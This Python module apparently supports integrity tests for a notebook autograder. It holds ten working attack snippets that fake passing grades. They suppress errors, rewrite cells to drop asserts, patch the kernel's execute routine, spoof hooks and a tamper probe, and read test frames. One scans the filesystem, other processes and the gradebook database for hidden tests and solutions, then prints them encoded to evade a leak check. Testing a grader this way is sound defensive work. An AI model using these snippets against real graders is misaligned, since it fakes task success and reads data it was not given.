"""Kernel-level attacks on grading: blank answers that try to get the points anyway.

Used by tests/test_integrity.py. Each attack is a snippet of Python that a student puts at
the top of an answer cell, above the untouched answer stub (``raise NotImplementedError()``):
the answer variables are never computed. The snippet attacks the grading machinery instead
of the exercise:

* ``exception_handler``  ``set_custom_exc`` swallows every later error (and clears the
  error from IPython's execution result, so the kernel reports success);
* ``compile_patch``       ``get_ipython().compile.ast_parse`` defuses later cells (asserts and
  raises dropped, every statement wrapped in try/except) and sets answers derived from them;
* ``line_transformer``    an input transformer (hidden in an existing one: its ``__code__``
  is swapped) that rewrites later cells the same way;
* ``kernel_execute_wrap`` the kernel's ``do_execute`` rewrites the code it is asked to run
  and reports ``status: ok``;
* ``audit_hook``          ``sys.addaudithook``: on "compile" of a source string it sets the
  answers derived from that source; on "compile" of an AST it defuses the AST in place;
* ``spoofed_hook``        a ``pre_run_cell`` event hook that claims to be IPython's own
  (``__module__ = "IPython.core.events"``) and sets the answers from the cell it sees;
* ``probe_spoof``         silences tracebacks (clearing the error), patches builtins and adds a
  transformer, then shadows ``repr`` in the user namespace so that the grader's tamper probe
  (evaluated there) reports the fingerprint from before;
* ``frame_reader``        lazy answer objects (their class takes the expected type's name)
  that, when a test touches them, read the caller's frames (the test cell's source in
  ``In``, locals such as ``_exp``) and turn into the expected value;
* ``file_reader``         reads every file it can reach (working folder and parents, other
  processes' folders, ``gradebook.db``), runs the teacher's solutions it finds, derives answers
  from hidden tests it finds, and prints all of it (base64, hex, rot13, reversed, zlib);
* ``printer``             prints "All tests passed" and encoded dumps of ``In``/``Out``/``globals()``.

Several attacks share ``DERIVE``: given the source of a test cell, it evaluates the expected
values written in the hidden tests (``_exp = {...}``, ``x - 0.3``, ``x + "" == '...'``,
``[...] == [...]``) and builds the answer values with the checked types. When the hidden
tests never reach the kernel, there is nothing to derive from, and every attack must score 0.

``leaks(text, secrets)`` finds hidden-test lines and expected literals in a feedback page,
also in decoded forms (base64, hex, zlib, rot13, reversed text, ``\\uXXXX`` escapes).

Measured against the grading of commit 2758538 (hidden tests appended to the test cells and
run in the student's kernel, guarded by an in-kernel tamper probe), one attack per
notebook, chapters 00 and 01: exception_handler, compile_patch, line_transformer,
kernel_execute_wrap, audit_hook, spoofed_hook, probe_spoof and file_reader (the sanitized
notebook, hidden tests included, lay in the kernel's working folder) got every autograded
point; frame_reader got the exercises whose answer is a Series; printer and file_reader put
the hidden tests into the feedback page in encoded form, which ``crmcourse feedback``'s
plain-text check let through.
"""
from __future__ import annotations

import math

from . import notebooks as N

# ---------------------------------------------------------------- shared attack helpers

# Defined at the top of every attack snippet (idempotent; names start with _crm_).
DERIVE = r'''
import ast as _crm_ast, builtins as _crm_builtins, re as _crm_re, sys as _crm_sys
_crm_missing = object()
# nbgrader's markers, never written out in one piece here (nbgrader would take them for real ones)
_crm_HB, _crm_HE = "### BEGIN " + "HIDDEN TESTS", "### END " + "HIDDEN TESTS"
_crm_SB, _crm_SE = "### BEGIN " + "SOLUTION", "### END " + "SOLUTION"
_crm_cache = globals().setdefault("_crm_cache", {})

def _crm_derive(src, ns, names=None):
    """answer name -> value, from the expected values written in a test cell's (hidden) tests."""
    if not isinstance(src, str) or "assert" not in src or "_crm_" in src:
        return {}  # not a test cell (never run the statements of an attack cell a second time)
    key = (src, tuple(sorted(names)) if names else None)
    if key in _crm_cache:
        return _crm_cache[key]
    _crm_cache[key] = {}
    try:
        out = _crm_derive_inner(src, ns, names)
    except BaseException:
        out = {}
    _crm_cache[key] = out
    return out

def _crm_derive_inner(src, ns, names):
    ast = _crm_ast
    blocks = _crm_re.findall(_crm_HB + r"[^\n]*\n(.*?)" + _crm_HE, src, _crm_re.S)
    code = "\n".join(blocks) if blocks else src
    try:
        tree = ast.parse(code)
        whole = ast.parse(src)
    except SyntaxError:
        return {}
    stored, loaded = set(), set()
    for n in ast.walk(whole):
        if isinstance(n, ast.Name):
            (loaded if isinstance(n.ctx, ast.Load) else stored).add(n.id)
        elif isinstance(n, ast.arg):
            stored.add(n.arg)

    def is_answer(x):
        if names is not None:
            return x in names
        if x.startswith("_") or hasattr(_crm_builtins, x) or x in stored:
            return False
        v = ns.get(x, _crm_missing)
        return v is _crm_missing or getattr(type(v), "_crm_lazy", False)

    answers = {x for x in loaded if is_answer(x)}
    if not answers:
        return {}
    scratch = {k: v for k, v in ns.items() if k not in answers}
    taint = {a: a for a in answers}
    kinds = {}
    facts = {a: {} for a in answers}

    def names_in(node):
        return {n.id for n in ast.walk(node) if isinstance(n, ast.Name) and isinstance(n.ctx, ast.Load)}

    def roots(node):
        return {taint[x] for x in names_in(node) if x in taint}

    def ev(node):
        return eval(compile(ast.fix_missing_locations(ast.Expression(body=node)), "<crm>", "eval"), scratch)

    def shape(node):
        if isinstance(node, ast.Name):
            return kinds.get(node.id, "value") if node.id in taint else None
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "keys":
            return "keys"
        if isinstance(node, (ast.ListComp, ast.GeneratorExp, ast.SetComp, ast.DictComp)):
            gen = node.generators[0]
            it = gen.iter
            src_kind = None
            if isinstance(it, ast.Call) and isinstance(it.func, ast.Attribute) and it.func.attr == "items":
                src_kind = "pairs"
            elif isinstance(it, ast.Attribute) and it.attr in ("columns", "index"):
                src_kind = it.attr
            elif isinstance(it, ast.Name) and it.id in taint:
                src_kind = kinds.get(it.id, "list")
            if isinstance(node, ast.DictComp):
                return {"pairs": "dict", "index": "rows"}.get(src_kind, "dict")
            if src_kind == "pairs":
                if isinstance(node.elt, ast.Tuple):
                    return "pairs"
                if isinstance(gen.target, ast.Tuple) and len(gen.target.elts) == 2:
                    first = {n.id for n in ast.walk(gen.target.elts[0]) if isinstance(n, ast.Name)}
                    return "keys" if names_in(node.elt) & first else "values"
                return "pairs"
            return src_kind or "list"
        return None

    def note_type(cmp):
        # _type(x) is X / _type(x).__name__ == "Series"
        operands = [cmp.left] + list(cmp.comparators)
        for i, op in enumerate(cmp.ops):
            a, b = operands[i], operands[i + 1]
            for one, other in ((a, b), (b, a)):
                if (isinstance(op, ast.Is) and isinstance(one, ast.Call) and one.args
                        and isinstance(one.args[0], ast.Name) and one.args[0].id in answers):
                    try:
                        if ev(one.func) is type:
                            facts[one.args[0].id]["type"] = ev(other)
                    except BaseException:
                        pass
                if isinstance(other, ast.Constant) and isinstance(other.value, str):
                    for n in ast.walk(one):
                        if (isinstance(n, ast.Attribute) and n.attr == "__name__" and isinstance(n.value, ast.Call)
                                and n.value.args and isinstance(n.value.args[0], ast.Name)
                                and n.value.args[0].id in answers):
                            facts[n.value.args[0].id]["typename"] = other.value

    def note_value(cmp):
        operands = [cmp.left] + list(cmp.comparators)
        for o in operands:
            if isinstance(o, ast.BinOp) and isinstance(o.left, ast.Name) and o.left.id in answers:
                if isinstance(o.op, ast.Sub) and not roots(o.right):
                    try:
                        facts[o.left.id].setdefault("value", ev(o.right))
                    except BaseException:
                        pass
        for i, op in enumerate(cmp.ops):
            if not isinstance(op, ast.Eq):
                continue
            a, b = operands[i], operands[i + 1]
            for one, other in ((a, b), (b, a)):
                if not roots(one) or roots(other):
                    continue
                try:
                    want = ev(other)
                except BaseException:
                    continue
                if isinstance(one, ast.BinOp) and isinstance(one.left, ast.Name) and one.left.id in answers \
                        and isinstance(one.op, ast.Add):
                    facts[one.left.id].setdefault("value", want)
                    continue
                if isinstance(one, ast.Name) and one.id in answers:
                    facts[one.id].setdefault("value", want)
                    continue
                kind = shape(one)
                rs = roots(one)
                if kind and len(rs) == 1:
                    facts[rs.pop()].setdefault(kind, want)

    def visit(stmt):
        if isinstance(stmt, ast.Assert):
            for n in ast.walk(stmt.test):
                if isinstance(n, ast.Compare):
                    note_type(n)
                    if roots(n):
                        note_value(n)
            return
        used = roots(stmt)
        if not used:
            try:
                exec(compile(ast.fix_missing_locations(ast.Module(body=[stmt], type_ignores=[])), "<crm>", "exec"),
                     scratch)
            except BaseException:
                pass
            return
        if isinstance(stmt, (ast.Assign, ast.AnnAssign)) and stmt.value is not None:
            targets = stmt.targets if isinstance(stmt, ast.Assign) else [stmt.target]
            for t in targets:
                for n in ast.walk(t):
                    if isinstance(n, ast.Name):
                        taint[n.id] = next(iter(used))
                        kinds[n.id] = shape(stmt.value) or "value"
            return
        for child in ast.iter_child_nodes(stmt):
            if isinstance(child, ast.stmt):
                visit(child)

    for stmt in tree.body:
        visit(stmt)

    try:
        import pandas as pd
    except BaseException:
        pd = None
    out = {}
    for a in answers:
        f = facts[a]
        val = f.get("value")
        d = None
        for kind in ("dict", "pairs", "rows"):
            if kind in f:
                try:
                    d = dict(f[kind])
                    break
                except BaseException:
                    pass
        if d is None and val is None and (f or any(r == a for k, r in taint.items() if k != a)):
            for nm in ("_exp", "_expected", "_e"):
                if isinstance(scratch.get(nm), dict):
                    d = dict(scratch[nm])
                    break
        if d is not None:
            order = None
            for kind in ("keys", "index"):
                if isinstance(f.get(kind), (list, tuple)) or (kind in f and hasattr(f[kind], "__iter__")):
                    order = [k for k in f[kind] if k in d]
                    break
            if order is None and isinstance(f.get("values"), (list, tuple)):
                left, order = dict(d), []
                for v in f["values"]:
                    k = next((k for k, x in left.items() if x == v), None)
                    if k is not None:
                        order.append(k)
                        del left[k]
            if order is None and "reverse=True" in code:
                try:
                    order = sorted(d, key=lambda k: d[k], reverse=True)
                except BaseException:
                    pass
            if order:
                d = {k: d[k] for k in order + [k for k in d if k not in order]}
        t, tn = f.get("type"), f.get("typename")
        if "list" in f and val is None:
            val = list(f["list"])
        if pd is not None and tn == "DataFrame" and d is not None:
            val = pd.DataFrame.from_dict(d, orient="index", columns=f.get("columns"))
        elif pd is not None and tn == "Series" and d is not None:
            val = pd.Series(d)
        elif t is dict and d is not None:
            val = d
        elif val is None and d is not None:
            val = pd.Series(d) if pd is not None else d
        if t in (int, float, str, list, dict, tuple, bool) and val is not None and type(val) is not t:
            try:
                val = t(val)
            except BaseException:
                pass
        if val is not None:
            out[a] = val
    return out

def _crm_defuse(tree):
    """The same module with asserts and raises dropped and every statement wrapped in try/except."""
    ast = _crm_ast

    class _Drop(ast.NodeTransformer):
        def visit_Assert(self, node):
            return ast.Pass()
        def visit_Raise(self, node):
            return ast.Pass()

    def wrap(stmt):
        if isinstance(stmt, ast.ImportFrom) and stmt.module == "__future__":
            return stmt
        return ast.Try(body=[stmt], handlers=[ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()),
                                                               name=None, body=[ast.Pass()])],
                       orelse=[], finalbody=[])

    tree = _Drop().visit(tree)
    if hasattr(tree, "body"):
        tree.body = [wrap(s) for s in tree.body] or [ast.Pass()]
    return ast.fix_missing_locations(tree)

def _crm_defuse_source(src):
    try:
        return _crm_ast.unparse(_crm_defuse(_crm_ast.parse(src)))
    except BaseException:
        return src

def _crm_set(src, ns):
    for _k, _v in _crm_derive(src, ns).items():
        ns[_k] = _v
'''

ENCODE = r'''
def _crm_dump(label, text):
    """Print ``text`` in forms a plain-text leak check does not recognise."""
    import base64, codecs, zlib
    text = str(text)
    raw = text.encode("utf-8", "replace")
    print(f"[{label}] b64:", base64.b64encode(raw).decode())
    print(f"[{label}] hex:", raw.hex())
    print(f"[{label}] rot13:", codecs.encode(text, "rot13").replace("\n", " | "))
    print(f"[{label}] rev:", text[::-1].replace("\n", " | "))
    print(f"[{label}] zlib:", base64.b64encode(zlib.compress(raw)).decode())
'''

# ---------------------------------------------------------------- the attacks

# Shared by the attacks that hide an error: run_code (up the stack) already wrote the error into
# its ExecutionResult; take it back out.
CLEAR_ERROR = r'''
def _crm_clear_error():
    f = _crm_sys._getframe(1)
    while f is not None:
        r = f.f_locals.get("result")
        if r is not None and hasattr(r, "error_in_exec"):
            r.error_in_exec = None
            break
        f = f.f_back
'''

EXCEPTION_HANDLER = r'''
def _crm_swallow(shell, etype, value, tb, tb_offset=None):
    _crm_clear_error()
    return []
get_ipython().set_custom_exc((BaseException,), _crm_swallow)
'''

COMPILE_PATCH = r'''
_crm_ip = get_ipython()
_crm_orig_parse = _crm_ip.compile.ast_parse
def _crm_ast_parse(source, filename="<unknown>", symbol="exec", _orig=_crm_orig_parse, _ip=_crm_ip):
    _crm_set(source, _ip.user_ns)
    return _crm_defuse(_orig(source, filename, symbol))
_crm_ip.compile.ast_parse = _crm_ast_parse
'''

LINE_TRANSFORMER = r'''
import types as _crm_types
_crm_ip = get_ipython()
def _crm_rewrite(lines, _ip=_crm_ip):
    src = "".join(lines)
    if "assert" in src or "raise" in src:
        _crm_set(src, _ip.user_ns)
        src = _crm_defuse_source(src)
        lines = [l + "\n" for l in src.split("\n")]
    return lines
_crm_host = next((f for f in _crm_ip.input_transformers_cleanup
                  if isinstance(f, _crm_types.FunctionType) and not f.__code__.co_freevars), None)
if _crm_host is not None:
    # Hide in an existing transformer: same function object (same id), new code.
    _crm_copy = _crm_types.FunctionType(_crm_host.__code__, _crm_host.__globals__, _crm_host.__name__,
                                        _crm_host.__defaults__)
    _crm_host.__globals__["_crm_lt_pair"] = (_crm_copy, _crm_rewrite)
    def _crm_shim(lines):
        _first, _then = _crm_lt_pair
        return _then(_first(lines))
    _crm_host.__code__ = _crm_shim.__code__
else:
    _crm_ip.input_transformers_cleanup.append(_crm_rewrite)
'''

KERNEL_EXECUTE_WRAP = r'''
import inspect as _crm_inspect
_crm_kernel = get_ipython().kernel
_crm_orig_execute = _crm_kernel.do_execute
async def _crm_do_execute(code, silent, *args, _orig=_crm_orig_execute, _ip=get_ipython(), **kwargs):
    if not silent and isinstance(code, str) and code.strip():
        _crm_set(code, _ip.user_ns)
        code = _crm_defuse_source(code)
    reply = _orig(code, silent, *args, **kwargs)
    if _crm_inspect.isawaitable(reply):
        reply = await reply
    if isinstance(reply, dict) and reply.get("status") == "error":
        reply = {"status": "ok", "execution_count": reply.get("execution_count"),
                 "user_expressions": {}, "payload": []}
    return reply
_crm_kernel.do_execute = _crm_do_execute
'''

AUDIT_HOOK = r'''
def _crm_make_audit(ns):
    busy = []
    def hook(event, args):
        if event != "compile" or busy or not args:
            return
        busy.append(1)
        try:
            source = args[0]
            if isinstance(source, bytes):
                source = source.decode("utf-8", "replace")
            if isinstance(source, str):
                if "assert" in source:
                    _crm_set(source, ns)
            elif isinstance(source, (_crm_ast.Module, _crm_ast.Interactive)):
                if any(isinstance(n, (_crm_ast.Assert, _crm_ast.Raise)) for n in _crm_ast.walk(source)):
                    _crm_defuse(source)  # in place: compile() then builds the defused code
        except BaseException:
            pass
        finally:
            busy.clear()
    return hook
_crm_sys.addaudithook(_crm_make_audit(get_ipython().user_ns))
'''

SPOOFED_HOOK = r'''
def _crm_make_hook(ns):
    def pre_run_cell(info):
        try:
            _crm_set(getattr(info, "raw_cell", "") or "", ns)
        except BaseException:
            pass
    pre_run_cell.__module__ = "IPython.core.events"
    pre_run_cell.__qualname__ = "EventManager._pre_run_cell"
    return pre_run_cell
get_ipython().events.register("pre_run_cell", _crm_make_hook(get_ipython().user_ns))
'''

PROBE_SPOOF = r'''
import builtins as _crm_b
_crm_ip = get_ipython()
_crm_saved = globals().setdefault("_crm_saved", {"builtins": {}, "shell": set(), "transformers": set()})
def _crm_quiet(*args, **kwargs):
    _crm_clear_error()  # instead of the traceback
_crm_ip.showtraceback = _crm_quiet
_crm_saved["shell"].add("showtraceback")
for _crm_name, _crm_new in (("abs", lambda x, _a=_crm_b.abs: 0 if x != x else _a(x)),
                            ("round", lambda x, n=None, _r=_crm_b.round: _r(x, n) if n is not None else _r(x))):
    _crm_saved["builtins"].setdefault(_crm_name, getattr(_crm_b, _crm_name))
    setattr(_crm_b, _crm_name, _crm_new)
def _crm_no_asserts(lines):
    # one-line asserts become "pass" (same indentation)
    out = []
    for l in lines:
        s = l.strip()
        if s.startswith("assert ") and s.count("(") == s.count(")") and s.count("[") == s.count("]") \
                and not s.endswith(("\\", ",")):
            l = l[: len(l) - len(l.lstrip())] + "pass\n"
        out.append(l)
    return out
_crm_ip.input_transformers_post.append(_crm_no_asserts)
_crm_saved["transformers"].add(id(_crm_no_asserts))
def repr(obj, _repr=_crm_b.repr, _saved=_crm_saved):
    # the tamper probe formats its fingerprint with repr(), looked up in this namespace first
    if isinstance(obj, dict) and "transformers" in obj and "hooks" in obj:
        obj = dict(obj)
        for k, orig in _saved["builtins"].items():
            if "builtins." + k in obj:
                obj["builtins." + k] = id(orig)
        if isinstance(obj.get("shell"), list):
            obj["shell"] = [k for k in obj["shell"] if k not in _saved["shell"]]
        if isinstance(obj.get("transformers"), list):
            obj["transformers"] = [t for t in obj["transformers"] if t not in _saved["transformers"]]
    return _repr(obj)
'''

FRAME_READER = r'''
def _crm_lazy(name, ns):
    """An answer that becomes whatever the test that looks at it expects."""
    def find():
        f = _crm_sys._getframe(2)
        while f is not None:
            g = f.f_globals
            hist = g.get("_ih") or g.get("In")
            if isinstance(hist, list) and hist:
                lazy = [k for k, v in list(g.items()) if getattr(type(v), "_crm_lazy", False)]
                got = _crm_derive(hist[-1], {k: v for k, v in g.items() if k not in lazy}, names=lazy)
                if name in got:
                    return got[name]
            for local in ("_exp", "_expected", "_e"):
                if isinstance(f.f_locals.get(local), (dict, int, float, str)):
                    return f.f_locals[local]
            f = f.f_back
        raise NameError(name)

    class _Meta(type):
        @property
        def __name__(cls):
            try:
                return type(find()).__name__
            except BaseException:
                return "Series"
        @property
        def __module__(cls):
            try:
                return type(find()).__module__
            except BaseException:
                return "pandas.core.series"

    def fwd(op):
        def method(self, *args, **kwargs):
            return getattr(find(), op)(*args, **kwargs)
        method.__name__ = op
        return method

    ops = ["__eq__", "__ne__", "__lt__", "__le__", "__gt__", "__ge__", "__add__", "__radd__", "__sub__",
           "__rsub__", "__mul__", "__rmul__", "__truediv__", "__rtruediv__", "__neg__", "__abs__", "__float__",
           "__int__", "__index__", "__str__", "__len__", "__iter__", "__getitem__", "__contains__",
           "__bool__", "__round__", "__format__", "__invert__", "__and__", "__or__"]
    body = {op: fwd(op) for op in ops}
    body.update({"_crm_lazy": True, "__hash__": lambda self: hash(find()),
                 "__getattr__": lambda self, attr: getattr(find(), attr),
                 "__repr__": lambda self: "<answer>",
                 "__class__": property(lambda self: type(find()))})
    return _Meta("Series", (), body)()
'''

FILE_READER = r'''
def _crm_file_reader(ns):
    import glob, os, sqlite3
    seen, texts = set(), {}
    def grab(path):
        path = os.path.realpath(path)
        if path in seen or len(seen) > 400:
            return
        seen.add(path)
        try:
            if os.path.getsize(path) > 30_000_000:
                return
            if path.endswith(".ipynb"):
                import json
                with open(path, encoding="utf-8", errors="replace") as fh:
                    nb = json.load(fh)
                texts[path] = "\n".join("".join(c.get("source", "")) for c in nb.get("cells", []))
            elif path.endswith(".db"):
                con = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
                parts = []
                for (table,) in con.execute("select name from sqlite_master where type='table'"):
                    for row in con.execute(f'select * from "{table}"'):
                        parts += [str(c) for c in row if isinstance(c, str)]
                con.close()
                texts[path] = "\n".join(parts)
            else:
                with open(path, encoding="utf-8", errors="replace") as fh:
                    texts[path] = fh.read()
        except BaseException as exc:
            texts.setdefault("errors", "")
            texts["errors"] += f"{path}: {type(exc).__name__}\n"
    roots = [os.getcwd()]
    here = os.getcwd()
    while os.path.dirname(here) != here:
        here = os.path.dirname(here)
        roots.append(here)
    try:
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    roots.append(os.readlink(f"/proc/{pid}/cwd"))
                    cmd = open(f"/proc/{pid}/cmdline", "rb").read().decode("utf-8", "replace").split("\0")
                    roots += [c.split("=", 1)[-1] for c in cmd if c.startswith(("--CourseDirectory.root=", "/"))
                              and os.path.isdir(c.split("=", 1)[-1])]
                except BaseException:
                    pass
    except BaseException:
        pass
    roots += [os.path.expanduser("~"), "/tmp"]
    listing = []
    for root in dict.fromkeys(roots):
        try:
            listing += [os.path.join(root, e) for e in os.listdir(root)][:200]
        except BaseException:
            continue
        patterns = ["*.ipynb", "*.db", "*.txt", "*.json", "*/*.ipynb", "*/*/*.ipynb", "*/*/*/*.ipynb",
                    "source/*/*", "release/*/*", "submitted/*/*/*", "autograded/*/*/*", "*/gradebook.db"]
        for pattern in patterns:
            for path in glob.glob(os.path.join(root, pattern))[:100]:
                if os.path.isfile(path):
                    grab(path)
    hidden, solutions = [], []
    for path, text in texts.items():
        hidden += _crm_re.findall(_crm_HB + r"[^\n]*\n.*?" + _crm_HE, text, _crm_re.S)
        solutions += _crm_re.findall(_crm_SB + r"[^\n]*\n(.*?)" + _crm_SE, text, _crm_re.S)
    import textwrap
    for code in dict.fromkeys(solutions):
        try:
            exec(textwrap.dedent(code), ns)
        except BaseException:
            pass
    for block in dict.fromkeys(hidden):
        _crm_set(block, ns)
    print("files seen:", len(seen))
    _crm_dump("listing", "\n".join(listing[:300]))
    _crm_dump("files", "\n".join(sorted(seen)))
    for i, block in enumerate(dict.fromkeys(hidden)):
        _crm_dump(f"hidden {i}", block[:3000])
    for i, code in enumerate(dict.fromkeys(solutions)):
        _crm_dump(f"solution {i}", code[:2000])
    for path, text in list(texts.items())[:20]:
        if "assert" in text or "HIDDEN" in text:
            _crm_dump(path, text[:3000])
try:
    _crm_file_reader(get_ipython().user_ns)
except BaseException as _crm_exc:
    print("file reader:", type(_crm_exc).__name__)
'''

PRINTER = r'''
print("All tests passed!")
print("测试全部通过。这一题的测试全部通过。")
try:
    _crm_g = get_ipython().user_ns
    _crm_dump("In", "\n#----\n".join(_crm_g.get("In", [])))
    _crm_dump("Out", "\n".join(f"{k}: {type(v).__name__}" for k, v in dict(_crm_g.get("Out", {})).items()))
    _crm_dump("globals", " ".join(sorted(k for k in _crm_g if not k.startswith("__"))))
    _crm_dump("values", "\n".join(f"{k} = {v!r}"[:4000] for k, v in list(_crm_g.items())
                                  if k.startswith("_") and not k.startswith("__") and not k.startswith("_crm")
                                  and type(v) in (dict, list, tuple, str, int, float, bool)))
except BaseException as _crm_exc:
    print("printer:", type(_crm_exc).__name__)
print("All tests passed!")
'''

# Attacks in the order they are placed in a notebook: local ones first (they only act on
# their own exercise), then the ones that set answers in later cells, then the ones that
# suppress errors in every later cell.
LOCAL = ["frame_reader", "file_reader", "printer"]
SETTERS = ["spoofed_hook", "audit_hook"]
SUPPRESSORS = ["exception_handler", "probe_spoof", "kernel_execute_wrap", "line_transformer", "compile_patch"]
ATTACKS = LOCAL + SETTERS + SUPPRESSORS

_SNIPPETS = {
    "exception_handler": EXCEPTION_HANDLER,
    "compile_patch": COMPILE_PATCH,
    "line_transformer": LINE_TRANSFORMER,
    "kernel_execute_wrap": KERNEL_EXECUTE_WRAP,
    "audit_hook": AUDIT_HOOK,
    "spoofed_hook": SPOOFED_HOOK,
    "probe_spoof": PROBE_SPOOF,
    "frame_reader": FRAME_READER,
    "file_reader": FILE_READER,
    "printer": PRINTER,
}

BLANK = "blank"  # a plan entry that leaves the answer stub alone


def attack_code(attack: str, ex: N.Exercise | None = None) -> str:
    """The code a student puts above the answer stub for ``attack`` (``ex``: the exercise it sits in)."""
    if attack not in _SNIPPETS:
        raise KeyError(f"unknown attack {attack!r}; known: {', '.join(ATTACKS)}")
    code = DERIVE + ENCODE + CLEAR_ERROR + _SNIPPETS[attack]
    if attack == "frame_reader":
        names = ex.names if ex is not None else []
        code += "".join(f"{n} = _crm_lazy({n!r}, get_ipython().user_ns)\n" for n in names if not n.startswith("_"))
    return f"# attack: {attack}\n{code}"


def attack_plans(exercises: list[N.Exercise]) -> list[dict[str, str]]:
    """Plans (answer_id -> attack name or "blank") that use every attack at least once.

    As few notebooks as fit all attacks (at least two). Within a notebook the attacks keep
    the order of ``ATTACKS`` (local, then answer setters, then error suppressors, so that
    no attack is switched off by one before it), and the unused exercises come first (so
    the printer never sits in the first exercise, where there is no history to dump yet).
    """
    n = len(exercises)
    if n == 0:
        return []
    count = max(2, math.ceil(len(ATTACKS) / n))
    plans = []
    for i in range(count):
        mine = ATTACKS[i::count]
        if len(mine) > n:
            raise ValueError("too few exercises for the attacks")
        names = [BLANK] * (n - len(mine)) + mine
        plans.append({ex.answer_id: name for ex, name in zip(exercises, names)})
    return plans


ATTACK_TEXT = "（空白作答：本提交只测试评分机制）"


def build_attack(source_nb, release_nb, plan: dict[str, str]):
    """A submission with blank answers: each exercise's stub stays, with its plan's attack above it."""
    stubs = {N.meta(c).get("grade_id"): c.source for c in release_nb.cells if N.is_answer_cell(c)}
    answers = {}
    for ex in N.exercises(source_nb):
        attack = plan.get(ex.answer_id, BLANK)
        if attack != BLANK:
            answers[ex.answer_id] = attack_code(attack, ex) + "\n" + stubs.get(ex.answer_id, "")
    return N.fill(release_nb, answers, written=ATTACK_TEXT)
